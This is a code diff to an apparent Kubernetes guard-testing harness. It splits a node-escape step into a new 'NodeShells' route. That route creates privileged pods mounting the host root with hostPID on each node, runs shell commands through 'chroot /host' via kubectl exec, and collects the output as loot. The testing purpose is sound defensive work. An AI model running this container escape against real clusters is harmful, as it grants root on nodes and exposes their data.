@@ -44,12 +44,12 @@ HOST_LINES = (
 
 
 class NodeAccess(Route):
-    """Containers that reach the machine below them, and what they find there."""
+    """Containers that reach the machine below them."""
 
     name: ClassVar[str] = "privileged-containers"
 
     def attempt(self, place: Place, loot: Loot) -> None:
-        """Create them in every way, change what is there into them, and look around on a node."""
+        """Create them in every way, and change what is there into them."""
         host = [{"name": "h", "hostPath": {"path": "/"}}]
         kinds: tuple[dict[str, Any], ...] = (
             {"container": {"securityContext": {"privileged": True}}},
@@ -73,26 +73,6 @@ class NodeAccess(Route):
             # What the guard's own record of this look says decides.
             for namespace in (place.namespace, *FOREIGN):
                 place.api(f"/api/v1/namespaces/{namespace}/pods/{MARK}-{number}")
-        self._looked_around(place, loot)
-
-    def _looked_around(self, place: Place, loot: Loot) -> None:
-        """As root on the nodes, where that is allowed."""
-        for number, node in enumerate(place.nodes()):
-            name = f"{MARK}-root-{number}"
-            container = {
-                "securityContext": {"privileged": True},
-                "volumeMounts": [{"name": "h", "mountPath": "/host"}],
-            }
-            volumes = [{"name": "h", "hostPath": {"path": "/"}}]
-            made = pod(name, container=container, volumes=volumes, hostPID=True, nodeName=node)
-            base = f"/api/v1/namespaces/{place.namespace}/pods"
-            if place.api(base, "POST", made)[0] not in (200, 201):
-                return
-            place.tool("wait", seconds=15)
-            for line in HOST_LINES:
-                words = f"exec {name} -n {place.namespace} -- chroot /host bash -c '{line}'"
-                loot.take(place.tool("kubectl", command=words))
-            place.api(f"{base}/{name}", "DELETE")
 
     def _as_yaml(self, place: Place, loot: Loot, base: str, number: int, made: Any) -> None:
         made["metadata"]["name"] = f"{MARK}-{number + 5}"
@@ -117,7 +97,7 @@ class NodeAccess(Route):
         loot.take(place.api(f"{deployments}/{name}", "PATCH", content, Content_Type=MERGE_PATCH)[1])
 
     def leaked(self, loot: Loot, known: Known) -> str:
-        """None may exist where that is not said to be allowed; and a node tells nothing."""
+        """None may exist where that is not said to be allowed."""
         allowed = any("except in pods of their own" in refused for *_, refused in known.requests)
         for method, path, status, _ in known.requests:
             foreign = any(f"/namespaces/{name}/pods/{MARK}-" in path for name in FOREIGN)
@@ -128,6 +108,31 @@ class NodeAccess(Route):
             if changed and MARK not in path:
                 return f"a workload was changed to reach its node: {path}"
         return known.found(loot.texts)
+
+
+class NodeShells(Route):
+    """What a node tells whoever is root there."""
+
+    name: ClassVar[str] = "node-shells"
+
+    def attempt(self, place: Place, loot: Loot) -> None:
+        """As root on each node, by a pod of one's own, where that is allowed."""
+        for number, node in enumerate(place.nodes()):
+            name = f"{MARK}-root-{number}"
+            container = {
+                "securityContext": {"privileged": True},
+                "volumeMounts": [{"name": "h", "mountPath": "/host"}],
+            }
+            volumes = [{"name": "h", "hostPath": {"path": "/"}}]
+            made = pod(name, container=container, volumes=volumes, hostPID=True, nodeName=node)
+            base = f"/api/v1/namespaces/{place.namespace}/pods"
+            if place.api(base, "POST", made)[0] not in (200, 201):
+                return
+            place.tool("wait", seconds=15)
+            for line in HOST_LINES:
+                words = f"exec {name} -n {place.namespace} -- chroot /host bash -c '{line}'"
+                loot.take(place.tool("kubectl", command=words))
+            place.api(f"{base}/{name}", "DELETE")
 
 
 class Kubelet(Route):
